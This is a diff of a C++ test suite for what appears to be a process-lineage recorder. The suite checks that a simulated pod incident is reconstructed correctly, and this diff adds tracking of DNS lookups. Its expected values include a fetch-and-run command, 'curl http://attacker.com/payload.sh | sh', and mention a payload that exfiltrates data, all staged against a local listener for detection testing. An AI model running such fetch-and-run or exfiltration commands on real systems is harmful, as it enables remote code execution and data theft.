@@ -46,6 +46,10 @@ constexpr const char* kContainerName = "my-app";
 constexpr const char* kImage = "registry.example.test/shop/my-app:1.8.0";
 // my-app's liveness probes before it takes requests (scripts/demo-payload/my-app.sh).
 constexpr int kProbes = 12;
+// The pod's name server (scripts/demo-payload/dns.py), and the address it
+// gives attacker.com: where the demo's listener is.
+constexpr const char* kNameServer = "127.0.5.3";
+constexpr const char* kAttackerAddress = "127.0.0.1";
 
 // What the demo made in this run, from its "demo: pod uid ..." line.
 struct DemoPod {
@@ -73,6 +77,25 @@ DemoPod demo_pod(const std::string& demo_stderr) {
 // A cgroup path under either kubepods root: what --kube-only records.
 bool under_kubepods(const std::string& path) {
     return path.rfind("/kubepods.slice/", 0) == 0 || path.rfind("/kubepods/", 0) == 0;
+}
+
+// Whether the pod found attacker.com by DNS, from the demo's name server,
+// or (where that could not listen) from its /etc/hosts: the demo says which.
+bool resolved_by_dns(const std::string& demo_stderr) {
+    const bool dns = demo_stderr.find(std::string("demo: attacker.com resolves by DNS: the pod's name server is ") +
+                                      kNameServer + ":53\n") != std::string::npos;
+    const bool hosts = demo_stderr.find("demo: no name server for the pod (") != std::string::npos;
+    INFO("the demo's stderr:\n" << demo_stderr);
+    CHECK(dns != hosts);
+    if (!dns) WARN("the demo could not run its name server: attacker.com came from the pod's /etc/hosts");
+    return dns;
+}
+
+// How many times `what` occurs in `text`.
+size_t count_of(const std::string& text, const std::string& what) {
+    size_t n = 0;
+    for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + what.size())) ++n;
+    return n;
 }
 
 std::string demo_script() {
@@ -109,7 +132,7 @@ std::string basename_of(const std::string& path) {
 struct Expected {
     Args args;
     std::string binary_base;  // base name of the exec'd path
-    bool connects = false;    // one established TCP connection to attacker.com
+    bool connects = false;    // looked attacker.com up (when by DNS), then one TCP connection to it
 };
 
 void check_pod(const json& node, const DemoPod& pod) {
@@ -124,8 +147,43 @@ void check_pod(const json& node, const DemoPod& pod) {
     CHECK(node["pod"]["name_source"] == "kubelet");
 }
 
+// The lookups of a process that connected to attacker.com: when the pod
+// found it by DNS, each a question for attacker.com to the demo's name
+// server, answered; the A question's answer is the listener's address, the
+// others' (AAAA) empty. The connect is named by the A lookup before it.
+void check_lookups(const json& node, bool by_dns) {
+    REQUIRE(node["connects"].size() == 1);
+    const json& c = node["connects"][0];
+    if (!by_dns) {
+        CHECK(!node.contains("dns"));
+        CHECK(!c.contains("name"));
+        return;
+    }
+    REQUIRE(node.contains("dns"));
+    size_t a = 0;
+    for (const auto& l : node["dns"]) {
+        INFO("lookup " << l.dump());
+        CHECK(l["name"] == "attacker.com");
+        CHECK(l["served"] == false);
+        CHECK(l["server"] == kNameServer);
+        CHECK(l["server_port"] == 53);
+        CHECK(l["answered"] == true);
+        CHECK(l["rcode"] == "NOERROR");
+        CHECK(l["unparsed"].is_null());
+        if (l["type"] == "A") {
+            ++a;
+            CHECK(l["answers"] == json(Args{kAttackerAddress}));
+            CHECK(l["time"].get<std::string>() <= c["time"].get<std::string>());
+        } else {
+            CHECK(l["answers"].empty());
+        }
+    }
+    CHECK(a >= 1);
+    CHECK(c.value("name", "") == "attacker.com");
+}
+
 // What every process of the pod has in common, and what `want` says of it.
-void check_node(const json& node, const json& parent, const Expected& want, int port, const DemoPod& pod) {
+void check_node(const json& node, const json& parent, const Expected& want, int port, const DemoPod& pod, bool by_dns) {
     INFO("process " << node["args"].dump() << " (pid " << node["pid"] << ")");
     CHECK(node["args"] == json(want.args));
     REQUIRE(node["binary"].is_string());
@@ -159,8 +217,10 @@ void check_node(const json& node, const json& parent, const Expected& want, int 
         CHECK(c["daddr"] == "127.0.0.1");
         CHECK(c["dport"] == port);
         CHECK(c["result"] == "established");
+        check_lookups(node, by_dns);
     } else {
         CHECK(node["connects"].empty());
+        CHECK(!node.contains("dns"));
     }
 }
 
@@ -172,11 +232,16 @@ void check_start_order(const json& children) {
     }
 }
 
-// (pid, nspid, args, connections) of every node, depth first: what must be
-// the same in both journals.
+// (pid, nspid, args, connections, lookups) of every node, depth first: what
+// must be the same in both journals (each recorder's probes take times of
+// their own: those may differ).
 void flatten(const json& node, std::vector<std::string>& out) {
-    out.push_back(node["pid"].dump() + " " + node["nspid"].dump() + " " + node["args"].dump() + " " +
-                  std::to_string(node["connects"].size()) + " children " + std::to_string(node["children"].size()));
+    std::string line = node["pid"].dump() + " " + node["nspid"].dump() + " " + node["args"].dump();
+    for (const auto& c : node["connects"]) line += " connect " + c["daddr"].dump() + " " + c.value("name", "");
+    for (const auto& l : node.value("dns", json::array())) {
+        line += " dns " + l["name"].dump() + " " + l["type"].dump() + " " + l["answers"].dump();
+    }
+    out.push_back(line + " children " + std::to_string(node["children"].size()));
     for (const auto& c : node["children"]) flatten(c, out);
 }
 
@@ -187,7 +252,7 @@ void collect_pids(const json& node, std::set<int64_t>& out) {
 
 // The whole incident: my-app -> sh -c "curl .../payload.sh | sh" -> curl and
 // the payload's sh -> cat, curl (exfil), wget, chmod.
-void check_incident(const json& doc, int port, bool kube_only, const DemoPod& pod) {
+void check_incident(const json& doc, int port, bool kube_only, const DemoPod& pod, bool by_dns) {
     const std::string attacker = port == 80 ? "http://attacker.com" : "http://attacker.com:" + std::to_string(port);
     INFO((kube_only ? "kube-only.db" : "journal.db") << ":\n" << doc.dump(2));
 
@@ -215,6 +280,7 @@ void check_incident(const json& doc, int port, bool kube_only, const DemoPod& po
     REQUIRE(app["exit"].is_object());
     CHECK(app["exit"]["signal"] == 9);
     CHECK(app["connects"].empty());
+    CHECK(!app.contains("dns"));
     REQUIRE(!app["execs"].empty());
     CHECK(app["execs"].back()["args"] == json(app_args));
     // Its parent is the unshare that made the pod's namespaces, outside it.
@@ -239,20 +305,20 @@ void check_incident(const json& doc, int port, bool kube_only, const DemoPod& po
     REQUIRE(app["children"].size() == 2 * kProbes + 1);
     check_start_order(app["children"]);
     for (int i = 0; i < kProbes; ++i) {
-        check_node(app["children"][2 * i], app, {{"sh", "-c", "test -f /tmp/healthy"}, "sh"}, port, pod);
-        check_node(app["children"][2 * i + 1], app, {{"sleep", "0.1"}, "sleep"}, port, pod);
+        check_node(app["children"][2 * i], app, {{"sh", "-c", "test -f /tmp/healthy"}, "sh"}, port, pod, by_dns);
+        check_node(app["children"][2 * i + 1], app, {{"sleep", "0.1"}, "sleep"}, port, pod, by_dns);
     }
     const json& injected = app["children"][2 * kProbes];
-    check_node(injected, app, {{"sh", "-c", "curl " + attacker + "/payload.sh | sh"}, "sh"}, port, pod);
+    check_node(injected, app, {{"sh", "-c", "curl " + attacker + "/payload.sh | sh"}, "sh"}, port, pod, by_dns);
 
     // Its pipeline: curl fetching the payload, sh running it.
     REQUIRE(injected["children"].size() == 2);
     check_start_order(injected["children"]);
     const json& fetch = injected["children"][0];
     const json& reader = injected["children"][1];
-    check_node(fetch, injected, {{"curl", attacker + "/payload.sh"}, "curl", true}, port, pod);
+    check_node(fetch, injected, {{"curl", attacker + "/payload.sh"}, "curl", true}, port, pod, by_dns);
     CHECK(fetch["children"].empty());
-    check_node(reader, injected, {{"sh"}, "sh"}, port, pod);
+    check_node(reader, injected, {{"sh"}, "sh"}, port, pod, by_dns);
 
     // The payload, line by line.
     const std::vector<Expected> payload = {
@@ -264,7 +330,7 @@ void check_incident(const json& doc, int port, bool kube_only, const DemoPod& po
     REQUIRE(reader["children"].size() == payload.size());
     check_start_order(reader["children"]);
     for (size_t i = 0; i < payload.size(); ++i) {
-        check_node(reader["children"][i], reader, payload[i], port, pod);
+        check_node(reader["children"][i], reader, payload[i], port, pod, by_dns);
         CHECK(reader["children"][i]["children"].empty());
     }
 }
@@ -369,6 +435,7 @@ size_t run_and_check_demo() {
     REQUIRE(!demo.timed_out);
     REQUIRE(demo.exit_code == 0);
     const DemoPod pod = demo_pod(demo.err);
+    const bool by_dns = resolved_by_dns(demo.err);
     CHECK(took < std::chrono::seconds(30));
     // The user sees the tree.
     CHECK(demo.out.find("pod production/my-app-6d4f9-xk2p1  container my-app  image "
@@ -387,6 +454,18 @@ size_t run_and_check_demo() {
     CHECK(mounts.find("pod-tmp") == std::string::npos);
 
     const int port = std::stoi(read_file(workdir + "/attacker.port"));
+    {
+        INFO("the tree the user sees:\n" << demo.out);
+        // curl, curl and wget: each its lookup, then its connect.
+        const std::string connect = std::string("→ connect ") + kAttackerAddress + ":" + std::to_string(port);
+        if (by_dns) {
+            CHECK(count_of(demo.out, std::string("→ dns attacker.com A ") + kAttackerAddress + "  +") == 3);
+            CHECK(count_of(demo.out, connect + " (attacker.com)  +") == 3);
+        } else {
+            CHECK(count_of(demo.out, "→ dns ") == 0);
+            CHECK(count_of(demo.out, connect + "  +") == 3);
+        }
+    }
     const json full = reconstruct_json(workdir + "/journal.db");
     const json kube = reconstruct_json(workdir + "/kube-only.db");
     size_t others = 0;
@@ -394,7 +473,7 @@ size_t run_and_check_demo() {
     // One run of the demo for all of the checks below (a SECTION would rerun it).
     {
         INFO("the whole node's journal has the pod's complete tree");
-        check_incident(full, port, /*kube_only=*/false, pod);
+        check_incident(full, port, /*kube_only=*/false, pod, by_dns);
         // The demo left the same document for the user.
         json kept;
         REQUIRE_NOTHROW(kept = json::parse(read_file(workdir + "/incident.json")));
@@ -403,7 +482,7 @@ size_t run_and_check_demo() {
 
     {
         INFO("the --kube-only journal has the same tree");
-        check_incident(kube, port, /*kube_only=*/true, pod);
+        check_incident(kube, port, /*kube_only=*/true, pod, by_dns);
         std::vector<std::string> a, b;
         for (const auto& t : full["trees"]) flatten(t, a);
         for (const auto& t : kube["trees"]) flatten(t, b);
@@ -439,7 +518,7 @@ size_t run_and_check_demo() {
         if (others == 0) {
             for (const char* sql :
                  {"SELECT tgid FROM exec", "SELECT child_tgid FROM fork", "SELECT parent_tgid FROM fork",
-                  "SELECT tgid FROM exit", "SELECT tgid FROM connect"}) {
+                  "SELECT tgid FROM exit", "SELECT tgid FROM connect", "SELECT tgid FROM dns"}) {
                 INFO(sql);
                 for (int64_t pid : ints(db, sql)) {
                     INFO("pid " << pid);
@@ -448,8 +527,10 @@ size_t run_and_check_demo() {
             }
         }
         // Host noise the whole-node recorder saw is absent: this test, the
-        // attacker.com listener and the recorders themselves.
+        // attacker.com listener, the pod's name server (the answers it sent)
+        // and the recorders themselves.
         std::set<int64_t> host = {getpid(), std::stoll(read_file(workdir + "/attacker.pid"))};
+        if (by_dns) host.insert(std::stoll(read_file(workdir + "/dns.pid")));
         for (int64_t pid : ints(db, "SELECT recorder_pid FROM runs")) host.insert(pid);
         for (int64_t pid : ints(whole, "SELECT recorder_pid FROM runs")) host.insert(pid);
         for (int64_t pid : host) {
@@ -458,6 +539,7 @@ size_t run_and_check_demo() {
                  {"SELECT count(*) FROM exec WHERE tgid = ?1 OR parent_tgid = ?1",
                   "SELECT count(*) FROM fork WHERE parent_tgid = ?1 OR child_tgid = ?1",
                   "SELECT count(*) FROM exit WHERE tgid = ?1", "SELECT count(*) FROM connect WHERE tgid = ?1",
+                  "SELECT count(*) FROM dns WHERE tgid = ?1",
                   "SELECT count(*) FROM snapshot WHERE tgid = ?1 OR ppid = ?1"}) {
                 std::string q = sql;
                 for (size_t at; (at = q.find("?1")) != std::string::npos;) q.replace(at, 2, std::to_string(pid));
@@ -558,9 +640,11 @@ TEST_CASE("demo: nothing is left behind, also when the demo fails halfway") {
         check_nothing_left(workdir, demo_pod(demo.err));
     }
 
-    SECTION("a run whose recorder fails cleans up the pod's cgroups and the listener") {
+    SECTION("a run whose recorder fails cleans up the pod's cgroups, the listener and the name server") {
         // /bin/false as lineage: the recorders die at once, after the
-        // cgroups, the kubelet files and attacker.com are set up.
+        // cgroups, the kubelet files, attacker.com and the pod's name server
+        // are set up (check_nothing_left finds them by the work directory on
+        // their command lines).
         const TempDir dir;  // the demo removes it
         const std::string& workdir = dir.path();
         RunResult demo = run_demo(workdir, /*keep=*/false, "/bin/false");
